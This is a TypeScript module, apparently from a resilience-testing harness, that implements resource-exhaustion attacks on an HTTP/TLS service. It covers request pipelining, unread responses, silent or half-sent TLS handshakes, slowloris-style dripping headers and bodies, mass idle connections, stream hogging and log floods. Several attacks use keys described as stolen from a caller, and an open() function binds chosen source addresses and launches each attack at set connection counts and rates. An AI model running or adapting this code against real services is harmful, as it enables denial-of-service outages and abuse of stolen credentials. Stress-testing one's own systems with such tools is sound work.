import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';

/** The service under attack. */
export interface Target {
  readonly host: string;
  readonly port: number;
  readonly tls: boolean;
  /** Keys that the attackers have stolen from a caller. */
  readonly validate_key: string;
  readonly write_key: string;
}

/** A way to occupy or waste resources of the service, from one address. */
export interface Shape {
  readonly name: string;
  /** The number of connections to keep open. Connections that the service closes are opened again. */
  readonly connections: number;
  /** The largest number of new connections per second. */
  readonly opened_per_second: number;
  /** Set if it connects to a TLS port without TLS. */
  readonly isRaw?: true;
  /** Attacks over an open connection. */
  readonly attack: (socket: Socket, target: Target) => void;
}

const BUNDLE = 'GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nhost: localhost\r\n\r\n'.repeat(8);
const PIPELINE = Buffer.from(BUNDLE + 'GET / HTTP/1.1\r\nhost:\r\n\r\n'.repeat(2_500));
/** The first bytes of a TLS record with a ClientHello of 512 bytes. */
const HALF_RECORD = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252]);
const DRIP_INTERVAL_MS = 500;
const DRIP_BYTES = 5_000;

export const SHAPES: readonly Shape[] = [
  {
    name: 'pipelining',
    connections: 200,
    opened_per_second: 50,
    attack: (socket) => void socket.pause().write(PIPELINE),
  },
  {
    name: 'unread responses',
    connections: 500,
    opened_per_second: 50,
    attack: (socket) => void socket.pause().write(BUNDLE),
  },
  {
    name: 'silent TLS',
    connections: 1_000,
    opened_per_second: 100,
    isRaw: true,
    attack: (socket) => {
      // Every second connection sends nothing.
      if (Number(socket.localPort) % 2 === 0) socket.write(HALF_RECORD);
    },
  },
  {
    name: 'slow heads',
    connections: 500,
    opened_per_second: 50,
    attack: (socket) => {
      socket.write('GET / HTTP/1.1\r\nhost: localhost\r\nx: ');
      drip(socket, 'x');
    },
  },
  {
    name: 'slow bodies',
    connections: 300,
    opened_per_second: 50,
    attack: (socket, { write_key }) => {
      const headers = [`host: localhost`, `authorization: Bearer ${write_key}`, 'content-type: application/json'];
      socket.write(['POST /v2/sessions HTTP/1.1', ...headers, 'content-length: 900000', '\r\n"'].join('\r\n'));
      drip(socket, 'x'.repeat(DRIP_BYTES));
    },
  },
  {
    name: 'idle connections',
    connections: 2_500,
    opened_per_second: 150,
    attack: (socket) => void socket.write('GET /livez HTTP/1.1\r\nhost: localhost\r\n\r\n'),
  },
  {
    name: 'stream hogs',
    connections: 1_500,
    opened_per_second: 100,
    attack: (socket, { validate_key }) =>
      void socket
        .pause()
        .write(`GET /v2/changes HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${validate_key}\r\n\r\n`),
  },
  {
    name: 'log floods',
    connections: 16,
    opened_per_second: 100,
    attack: (socket, { validate_key }) => {
      let count = 0;
      const flood = () => void socket.write(BAD_REQUESTS[count++ % BAD_REQUESTS.length]?.(validate_key) ?? '');
      socket.on('data', () => setTimeout(flood, FLOOD_PAUSE_MS));
      flood();
    },
  },
];

/** With this pause, sixteen connections send about 800 requests per second. */
const FLOOD_PAUSE_MS = 15;

/** Requests that are rejected, or that may write a log line. */
const BAD_REQUESTS: readonly ((validate_key: string) => string)[] = [
  () => 'QUERY / HTTP/1.1\r\nhost: localhost\r\n\r\n',
  () => badPost('PUT', '/livez', '{"a":'),
  () => badPost('POST', '/v2/sessions', '{}', 'authorization: Bearer psk_wrong\r\n'),
  (key) => badPost('POST', '/v2/sessions/validate', '{"token":"invented"}', `authorization: Bearer ${key}\r\n`),
  (key) => badPost('POST', '/v2/sessions', '{"__proto__":1}', `authorization: Bearer ${key}\r\n`),
];

function badPost(method: string, path: string, body: string, headers = ''): string {
  const framing = `content-type: application/json\r\ncontent-length: ${body.length}\r\n`;
  return `${method} ${path} HTTP/1.1\r\nhost: localhost\r\n${headers}${framing}\r\n${body}`;
}

function drip(socket: Socket, bytes: string): void {
  const timer = setInterval(() => socket.write(bytes), DRIP_INTERVAL_MS);
  socket.once('close', () => clearInterval(timer));
}

/** Opens a connection of a shape from an address. Calls `closed` when it is closed or could not be opened. */
export function open(shape: Shape, target: Target, from: string, closed: () => void): void {
  const { host, port, tls } = target;
  const address = { host, port, localAddress: from };
  const isTls = tls && !shape.isRaw;
  const socket = isTls ? connectTls({ ...address, rejectUnauthorized: false }) : connect(address);
  socket.on('error', () => {});
  socket.once('close', closed);
  socket.once(isTls ? 'secureConnect' : 'connect', () => shape.attack(socket, target));
}
